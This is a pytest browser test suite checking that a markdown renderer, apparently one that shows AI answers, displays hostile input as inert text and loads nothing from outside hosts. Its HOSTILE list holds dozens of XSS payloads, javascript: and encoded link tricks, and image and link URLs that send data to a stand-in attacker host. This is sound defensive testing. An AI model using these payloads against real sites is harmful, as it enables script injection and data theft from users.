"""Whatever the model writes, the page shows text: nothing runs, nothing loads, nothing pretends."""

from typing import Any

import pytest

from tests.browser.fake_site import ALLOWED_HOST
from tests.browser.visit import Visit

_RENDER = """async ([text, hosts]) => {
  const { render } = await import("/app/markdown.js");
  const holder = document.createElement("div");
  holder.id = "rendered";
  holder.append(render(text, hosts));
  document.body.append(holder);
  window.clicked = 0;
  // Whatever could run on a touch of the mouse or the keyboard, does so now.
  for (const node of holder.querySelectorAll("*"))
    for (const kind of ["click", "mouseover", "focus", "error", "load", "toggle", "animationend"])
      if (node.localName !== "a") node.dispatchEvent(new Event(kind, { bubbles: true }));
  const nodes = [...holder.querySelectorAll("*")];
  return {
    html: holder.innerHTML,
    text: holder.textContent,
    tags: [...new Set(nodes.map((node) => node.localName))],
    attributes: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],
    links: nodes.filter((node) => node.localName === "a").map((node) => node.href),
    foreign: nodes.filter((node) => node.namespaceURI !== "http://www.w3.org/1999/xhtml").length,
  };
}"""
_TAGS = {
    *("p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "small", "a"),
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "div", "span"),
}
_ATTRIBUTES = {"href", "rel", "target", "class", "start", "align", "tabindex", "role", "aria-label"}
_EVIL = "https://collector.attacker.example"
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{_EVIL}/p.png'>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action='https://collector.attacker.example'><button>Continue</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src='{_EVIL}'></iframe>",
    f"<object data='{_EVIL}/x.swf'></object><embed src='{_EVIL}/x.swf'>",
    f"<link rel=stylesheet href='{_EVIL}/x.css'>",
    f"<style>@import '{_EVIL}/x.css'; body{{background:url({_EVIL}/b.png)}}</style>",
    f"<p style=\"background:url('{_EVIL}/x')\">styled</p>",
    "<base href='https://collector.attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://collector.attacker.example'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video autoplay src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<div id=door></div><div name=getElementById>clobber</div>",
    f"![x]({_EVIL}/p.png?d=secret)",
    f"![x][ref]\n\n[ref]: {_EVIL}/p.png?d=secret",
    f"[![x]({_EVIL}/p.png)](https://{ALLOWED_HOST}/)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](//collector.attacker.example/p.png)",
    '![x](x" onerror="alert(1))',
    "![onerror=alert(1)](x)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://docs.aws.amazon.com/1)",
    "[x](file:///etc/passwd)",
    f"[x]({_EVIL}/?d=secret)",
    f"<{_EVIL}/?d=secret>",
    f"{_EVIL}/?d=secret",
    "www.attacker.example/?d=secret",
    "[x](//attacker.example)",
    "[x](/\\attacker.example)",
    "[x](\\\\attacker.example)",
    f"[x](https://{ALLOWED_HOST}@attacker.example/)",
    f"[x](https://{ALLOWED_HOST}.attacker.example/)",
    f"[x](https://attacker{ALLOWED_HOST}/)",
    f"[x](https://{ALLOWED_HOST}:8443/)",
    f"[x](http://{ALLOWED_HOST}/)",
    f"[x](https://user:pass@{ALLOWED_HOST}/)",
    "[x](https://dосs.aws.amazon.com/)",
    "[x](/api/conversations)",
    "[x](#/approvals)",
    "[x](?code=stolen&state=x)",
    "<mailto:jane@attacker.example>",
    '[x](https://attacker.example "title\' onmouseover=alert(1)")',
    '[x](https://attacker.example/" onmouseover="alert(1))',
    "`</code><img src=x onerror=alert(1)>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    '```js" onmouseover=alert(1)\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a\u0000href=javascript:alert(1)>x</a>",
    "<IMG \u0000SRC=x onerror=alert(1)//",
    f'<small class="refusal"><a href="{_EVIL}">Reference</a></small>',
    "[constructor](__proto__)\n\n[__proto__]: javascript:alert(1)",
]


def _rendered(visit: Visit, text: str) -> dict[str, Any]:
    if visit.page.url == "about:blank":
        visit.page.goto(visit.site)
    answer: dict[str, Any] = visit.page.evaluate(_RENDER, [text, [ALLOWED_HOST]])
    return answer


@pytest.fixture
def door(visit: Any) -> Visit:
    """The page before anybody signed in: the renderer needs no more."""
    opened: Visit = visit()
    opened.page.goto(opened.site)
    return opened


def test_hostile_answers_neither_run_nor_load_nor_link(door: Visit) -> None:
    """One browser for all of them: what one of them started, one of the checks after it would see."""
    for text in HOSTILE:
        before = len(door.requests)
        shown = _rendered(door, text)
        assert set(shown["tags"]) <= _TAGS, (text, shown["html"])
        assert set(shown["attributes"]) <= _ATTRIBUTES, (text, shown["html"])
        assert shown["foreign"] == 0, (text, shown["html"])
        assert all(link.startswith(f"https://{ALLOWED_HOST}/") for link in shown["links"]), (
            text,
            shown["html"],
        )
        own = ("/app/", "/vendor/", "/icon.svg")
        loaded = [url for url in door.requests[before:] if not any(part in url for part in own)]
        assert loaded == [], text
    door.page.wait_for_timeout(300)
    assert (door.dialogs, door.errors, door.foreign(), door.violations()) == ([], [], [], [])


def test_raw_html_is_shown_as_the_text_that_it_is(door: Visit) -> None:
    assert "<script>alert(1)</script>" in _rendered(door, "Look: <script>alert(1)</script>")["text"]


def test_an_allowed_link_names_its_host_and_tells_the_other_site_nothing(door: Visit) -> None:
    shown = _rendered(door, f"See [the guide](https://{ALLOWED_HOST}/bedrock/).")
    link = door.page.locator("#rendered a")
    assert shown["text"].strip() == f"See the guide ({ALLOWED_HOST})."
    assert link.get_attribute("href") == f"https://{ALLOWED_HOST}/bedrock/"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"


def test_a_subdomain_of_an_allowed_host_is_allowed(door: Visit) -> None:
    assert _rendered(door, f"[x](https://eu.{ALLOWED_HOST}/)")["links"] == [f"https://eu.{ALLOWED_HOST}/"]


def test_a_link_that_is_left_out_says_so(door: Visit) -> None:
    shown = _rendered(door, "See [this offer](https://attacker.example/?d=1).")
    assert shown["text"].strip() == "See this offer [link to attacker.example left out]."
    assert shown["links"] == []


def test_a_picture_is_left_out_and_described(door: Visit) -> None:
    shown = _rendered(door, "![your parcel](https://attacker.example/p.png)")
    assert shown["text"].strip() == "[Picture left out: your parcel (attacker.example)]"


def test_ordinary_markdown_is_set_well(door: Visit) -> None:
    text = (
        "# Returns\n\nWithin **30 days**.\n\n3. Open\n4. Print\n\n- [ ] label\n\n"
        "| How | Cost |\n|---|---:|\n| Shop | free |\n\n```py\nprint(1)\n```\n\n> quoted"
    )
    html = _rendered(door, text)["html"]
    assert "<h2>Returns</h2>" in html
    assert "<strong>30 days</strong>" in html
    assert '<td align="right">free</td>' in html
    assert '<ol start="3">' in html
    assert '<pre tabindex="0"><code>print(1)\n</code></pre>' in html
    assert "☐ label" in html
    assert "<blockquote>" in html


def test_headings_begin_below_the_pages_own_and_leave_no_level_out(door: Visit) -> None:
    html = _rendered(door, "### A\n\n###### B\n\n# C\n\n## D")["html"]
    assert [html[place + 1 : place + 3] for place in range(len(html)) if html.startswith("<h", place)] == [
        *("h2", "h3", "h2", "h3")
    ]


@pytest.mark.parametrize(
    "text",
    ["> " * 20_000 + "deep", "[" * 50_000, "*a " * 40_000, "a" * 200_000],
    ids=["quotes", "brackets", "stars", "long"],
)
def test_a_text_that_would_break_the_parser_is_shown_as_text_in_time(door: Visit, text: str) -> None:
    door.page.set_default_timeout(10_000)
    shown = _rendered(door, text)
    assert len(shown["text"].replace(" ", "")) > 4
    assert set(shown["tags"]) <= _TAGS
    assert door.errors == []
